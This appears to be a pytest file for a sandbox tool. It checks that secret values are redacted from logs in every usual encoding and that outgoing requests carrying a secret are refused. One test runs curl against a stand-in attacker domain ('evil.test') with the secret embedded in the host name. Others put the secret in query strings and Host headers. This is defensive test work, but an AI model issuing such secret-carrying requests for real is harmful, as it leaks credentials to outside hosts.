# SPDX-License-Identifier: MIT
"""The value of a secret never gets into the log, whoever says it and in whichever usual encoding: the event is refused,
the refusal names the field, a decision becomes a denial, and the cell's end is in the log all the same."""
import base64
import json
import urllib.parse

import pytest

from conftest import of_type, types

VALUE = 'Tr0ub4dor-3x+/?>?~?"kEy'  # with something for every encoding to change
LABEL = "hunter2-hunter2-hunter2"  # that can be part of a name
ENV = {"CELLOS_SECRET_TOKEN": VALUE, "CELLOS_SECRET_LABEL": LABEL}
SECRETS = ("--secret", "token", "--secret", "label")


def middle(value, before, encode):
    """The characters of a base64 text that are of the value alone, with so many bytes before it."""
    text = encode(b"\xff" * before + value + b"\xff" * 3).decode()
    return text[-(-8 * before // 6):8 * (before + len(value)) // 6]


def forms(value):
    v = value.encode()
    found = {value, json.dumps(value)[1:-1], v.hex(), urllib.parse.quote(value, safe="")}
    for before in range(3):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            found.add(middle(v, before, encode))
    return {f.lower() for f in found}


def nothing_leaked(user, values=(VALUE, LABEL)):
    """Every file of the state: log, keys, ids. Case does not count."""
    for path in user.state.rglob("*"):
        if path.is_file():
            content = path.read_bytes().lower()
            for value in values:
                for form in forms(value):
                    assert form.encode() not in content, (path, form)


def refusals(events, role=None):
    return [(e["reason"], e["count"]) for e in of_type(events, "log.v1.claim_refused") if role in (None, e["role"])]


def ended_well(user):
    events = user.events()
    assert types(events)[-1] == "lifecycle.v1.destroyed", [e["data"] for e in events[-4:]]
    r = user.verify()
    assert r.returncode == 0, r.stdout + r.stderr
    return events


def test_the_forms_of_this_test_are_right():
    assert len(forms(VALUE)) >= 8
    for before in range(3):
        text = base64.b64encode(b"abc"[:before] + VALUE.encode() + b"zz").decode()
        assert middle(VALUE.encode(), before, base64.b64encode) in text


def test_argv_in_every_form(user):
    shown = sorted(forms(VALUE) | {VALUE, VALUE.upper(), "--password=" + VALUE, "https://u:%s@h/" % urllib.parse.quote(VALUE, safe="")})
    r = user.ctl("run", *SECRETS, "--", "sh", "-c", 'echo "$token"; echo "$#"', "sh", *shown, "harmless", env=ENV)
    assert r.stdout == "%s\n%d\n" % (VALUE, len(shown) + 1), r.stderr
    events = ended_well(user)
    completed, = of_type(events, "command.v1.completed")
    assert completed["argv"] == ["sh", "-c", 'echo "$token"; echo "$#"', "sh", *["[redacted]"] * len(shown), "harmless"]
    assert completed["exitCode"] == 0
    assert ("data.argv[4] contains the value of the secret token", 1) in refusals(events, "supervisor")
    assert of_type(events, "lifecycle.v1.destroyed")[0]["outcome"] == "succeeded"
    nothing_leaked(user)
    r = user.ctl("events", user.last_log())
    assert "[redacted]" in r.stdout and VALUE not in r.stdout
    assert user.ctl("why", user.last_log()).returncode == 0


def test_values_from_files_and_with_odd_bytes(user):
    value = 'line one\n"quoted"\\ and caf\u00e9\ttab'
    path = user.file("secret", value + "\n", 0o600)
    r = user.ctl("run", "--secret", "disk", "--", "sh", "-c", ":", "sh", json.dumps({"a": value}, ensure_ascii=False), value + "!",
                 env={"CELLOS_SECRET_FILE_DISK": str(path)})
    assert r.returncode == 0, r.stderr
    events = ended_well(user)
    assert of_type(events, "command.v1.completed")[0]["argv"][3:] == ["sh", "[redacted]", "[redacted]"]
    nothing_leaked_log = b"".join(p.read_bytes() for p in user.last_log().glob("*.jsonl"))
    for part in (value.encode(), json.dumps(value, ensure_ascii=False)[1:-1].encode(), b"line one"):
        assert part not in nothing_leaked_log


def test_a_denied_name(user):
    """Nothing leaves, the refusal is said, and the denial that could not be said is counted."""
    r = user.ctl("run", *SECRETS, "--", "curl", "-sS", "-m", "5", "https://%s.evil.test/" % LABEL, env=ENV)
    assert r.returncode == 6, r.stderr
    events = ended_well(user)
    said = refusals(events, "proxyd")
    assert said and {s for s, _ in said} == {"data.queryName contains the value of the secret label"}
    lost = [g for g in of_type(events, "observability.v1.gap") if g["cause"] == "unacknowledged"]
    assert sum(g["lost"] for g in lost) == sum(n for _, n in said) >= 1
    assert not [q for q in of_type(events, "observability.v1.dns_query") if "evil" in q["queryName"]]
    nothing_leaked(user)
    r = user.ctl("why", user.last_log())
    assert "data.queryName contains the value of the secret label" in r.stdout and LABEL not in r.stdout


@pytest.mark.parametrize("evidence", ["strict", "async"])
def test_an_allowed_name_is_denied(user, dns, web, evidence):
    """A rule allows it, but the decision cannot be in the log: in strict no resolver sees the name."""
    name = "%s.wild.test" % LABEL
    asked = len(dns.asked(name))
    r = user.ctl("run", *SECRETS, "--evidence", evidence, "--allow", "*.wild.test:%d" % web.http, "--dns", "127.0.0.1:%d" % dns.port,
                 "--allow-answer", "*.wild.test:127.0.0.1", "--allow-answer", "*.wild.test:::1", "--", "sh", "-c",
                 "for i in 1 2 3; do curl -sS -m 8 http://$label.wild.test:%d/; done; curl -sS -m 8 http://www.wild.test:%d/" %
                 (web.http, web.http), env=ENV)
    assert r.stdout.endswith("hello from nginx\n"), r.stderr  # others go on
    if evidence == "strict":
        assert r.stdout == "hello from nginx\n", r.stderr
        assert len(dns.asked(name)) == asked
    events = ended_well(user)
    assert "data.queryName contains the value of the secret label" in {s for s, _ in refusals(events, "proxyd")}
    assert [q for q in of_type(events, "observability.v1.dns_query") if q["queryName"] == "www.wild.test"]
    nothing_leaked(user)


def test_a_host_header_and_a_path(user, web, allow):
    """The path of a request is in no event: it may hold a value. A name that does is denied before anything is sent."""
    port = web.http
    seen = len(web.requests())
    r = user.ctl("run", *SECRETS, "--allow", "example.test:%d" % port, *allow, "--", "sh", "-c",
                 "curl -sS -o /dev/null -w '%%{http_code} ' http://example.test:%d/x?t=$label; "
                 "curl -sS -o /dev/null -w '%%{http_code} ' -H \"Host: $label.test\" http://example.test:%d/" % (port, port), env=ENV)
    codes = r.stdout.split()
    assert codes[0] == "404" and codes[1] in ("403", "503"), r.stdout + r.stderr
    assert len(web.requests()) == seen + 1
    events = ended_well(user)
    assert "data.host contains the value of the secret label" in {s for s, _ in refusals(events, "proxyd")}
    nothing_leaked(user)


def test_a_command_that_cannot_be_run(user):
    """spawnError and the reason of the end name argv[0]."""
    r = user.ctl("run", *SECRETS, "--", "/nowhere/" + LABEL, env=ENV)
    assert r.returncode == 127
    events = ended_well(user)
    assert of_type(events, "command.v1.completed")[0]["argv"] == ["[redacted]"]
    assert of_type(events, "lifecycle.v1.destroyed")[0]["outcome"] == "failed"
    nothing_leaked(user)


def test_a_rule_of_the_spec(user):
    r = user.ctl("run", *SECRETS, "--allow", LABEL + ".test", "--", "true", env=ENV)
    assert r.returncode == 0, r.stderr
    events = ended_well(user)
    scope, = of_type(events, "observability.v1.network_scope")
    assert [rule["host"] for rule in scope["egressRules"]] == ["[redacted]"]
    assert of_type(events, "observability.v1.homeostasis")[0]["unusedEgressRules"] == ["[redacted]"]
    nothing_leaked(user)


def test_a_cell_named_like_its_secret_is_not_started(user):
    r = user.ctl("run", *SECRETS, "--name", LABEL, "--", "sh", "-c", "echo ran", env=ENV)
    assert r.returncode == 125 and r.stdout == ""
    assert "spec.id contains the value of the secret label" in r.stderr
    assert user.events() == []
    nothing_leaked(user)


def test_short_values_are_only_found_whole(user):
    r = user.ctl("run", "--secret", "pin", "--", "sh", "-c", "exit 0", "4711", "x4711", "--pin=4711", env={"CELLOS_SECRET_PIN": "4711"})
    assert r.returncode == 0, r.stderr
    events = ended_well(user)
    assert of_type(events, "command.v1.completed")[0]["argv"][3:] == ["[redacted]", "x4711", "--pin=4711"]


def test_values_of_a_run_that_is_over_do_not_count(user):
    assert user.ctl("run", *SECRETS, "--", "true", env=ENV).returncode == 0
    r = user.ctl("run", "--", "echo", LABEL)
    assert r.stdout == LABEL + "\n"
    assert of_type(ended_well(user), "command.v1.completed")[0]["argv"] == ["echo", LABEL]
